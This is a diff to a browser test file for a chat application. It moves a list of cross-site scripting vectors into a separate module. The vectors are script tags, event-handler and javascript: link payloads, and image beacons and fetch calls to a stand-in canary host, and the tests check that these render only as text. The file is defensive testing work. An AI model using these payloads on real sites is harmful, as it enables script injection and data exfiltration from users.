@@ -1,7 +1,7 @@
 """Nothing that somebody else wrote runs in the page or makes it talk to anybody.
 
 Every visit is watched: a script that runs complains, a request elsewhere is recorded, and either
-fails the test. The vectors follow OWASP's XSS filter evasion sheet.
+fails the test. The long list of attacks is in `test_hostile.py`.
 """
 
 import re
@@ -10,74 +10,12 @@ from playwright.sync_api import Page, expect
 
 from tests.browser.conftest import Installation, Visits
 from tests.browser.hands import answers, ask, history, questions
+from tests.browser.hostile import BAIT, HTML, NAMES
 from tests.browser.upstream import Scripted
-
-BAIT = "https://canary.example"
-VECTORS = (
-    "<script>console.error('ran')</script>",
-    "<img src=x onerror=\"console.error('ran')\">",
-    f"<img src={BAIT}/pixel.png>",
-    f"<svg onload=\"fetch('{BAIT}')\"><use href='{BAIT}/a.svg#b'/></svg>",
-    f"<iframe src={BAIT}></iframe><object data={BAIT}></object><embed src={BAIT}>",
-    f"<link rel=stylesheet href={BAIT}/a.css><style>@import '{BAIT}/b.css';</style>",
-    f"<video poster={BAIT}/p.png src={BAIT}/v.mp4 autoplay></video>",
-    f"<form action={BAIT}><button autofocus onfocus=console.error('ran')>x</button></form>",
-    f"<meta http-equiv=refresh content='0;url={BAIT}'><base href={BAIT}>",
-    "<details open ontoggle=console.error('ran')>x</details>",
-    "<a href=\"javascript:console.error('ran')\">x</a>",
-    "[click](javascript:console.error('ran'))",
-    "[click](JaVaScRiPt&colon;console.error('ran'))",
-    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-    f"![picture]({BAIT}/leak.png?q=secret)",
-    f"![picture][ref]\n\n[ref]: {BAIT}/leak.png",
-    f"[![nested]({BAIT}/leak.png)]({BAIT})",
-    f"<{BAIT}/auto> {BAIT}/bare",
-    f"$\\href{{javascript:console.error('ran')}}{{x}}$ $\\includegraphics{{{BAIT}/a.png}}$",
-    "$$\\htmlData{x=y}{\\url{javascript:console.error('ran')}}$$",
-    "```html\n<script>console.error('ran')</script>\n```",
-    "```mermaid\ngraph TD; a[<img src=x onerror=console.error('ran')>]\n```",
-    "| <script>console.error('ran')</script> |\n|---|\n| <img src=x onerror=console.error('ran')> |",
-    "- [ ] <svg/onload=console.error('ran')>",
-    "\u202e<script>console.error('ran')</script>\x07\ufeff",
-)
-
-
-def test_an_answer_full_of_attacks_is_only_text(page: Page, scripted: Scripted) -> None:
-    scripted.says("\n\n".join(VECTORS) + "\n\nThe end of it.")
-    ask(page, "Attack me")
-    expect(answers(page).last).to_contain_text("The end of it.")
-    answer = answers(page).last
-    for forbidden in (
-        "script",
-        "iframe",
-        "object",
-        "embed",
-        "form",
-        "video",
-        "style",
-        "link",
-        "meta",
-    ):
-        expect(answer.locator(forbidden)).to_have_count(0)
-    expect(answer.locator("img")).to_have_count(0)
-    for link in answer.locator("a").all():
-        assert (link.get_attribute("href") or "").startswith("https://canary.example")
-        assert link.get_attribute("rel") == "noopener noreferrer"
-    expect(answer.get_by_text("<script>console.error('ran')</script>").first).to_be_visible()
-
-
-def test_a_growing_attack_is_only_text(page: Page, scripted: Scripted) -> None:
-    held = scripted.says_slowly("\n\n".join(VECTORS), words=9)
-    page.get_by_label("Message", exact=True).fill("Attack me slowly")
-    page.keyboard.press("Enter")
-    expect(answers(page).last).to_contain_text("onerror")
-    held.release()
-    expect(answers(page).last).to_have_attribute("aria-busy", "false")
-    expect(answers(page).last.locator("img, script, iframe")).to_have_count(0)
 
 
 def test_ones_own_words_are_only_text(page: Page) -> None:
-    ask(page, "\n".join(VECTORS))
+    ask(page, "\n".join(HTML))
     expect(questions(page).last).to_contain_text("<script>console.error('ran')</script>")
     expect(questions(page).last.locator("img, script, iframe, a")).to_have_count(0)
     page.get_by_role("button", name="What was sent").click()
@@ -92,7 +30,7 @@ def test_ones_own_words_are_only_text(page: Page) -> None:
 def test_a_title_is_only_text(page: Page, lowkey: Installation) -> None:
     ask(page, "To be titled")
     conversation = page.url.rsplit("/", 1)[1]
-    for vector in VECTORS[:3]:
+    for vector in NAMES[:3]:
         lowkey.ask(f"/api/conversations/{conversation}", {"title": vector}, "PATCH")
         expect(page.get_by_role("heading", level=1)).to_have_text(vector)
         expect(history(page).filter(has_text=vector).first).to_be_visible()
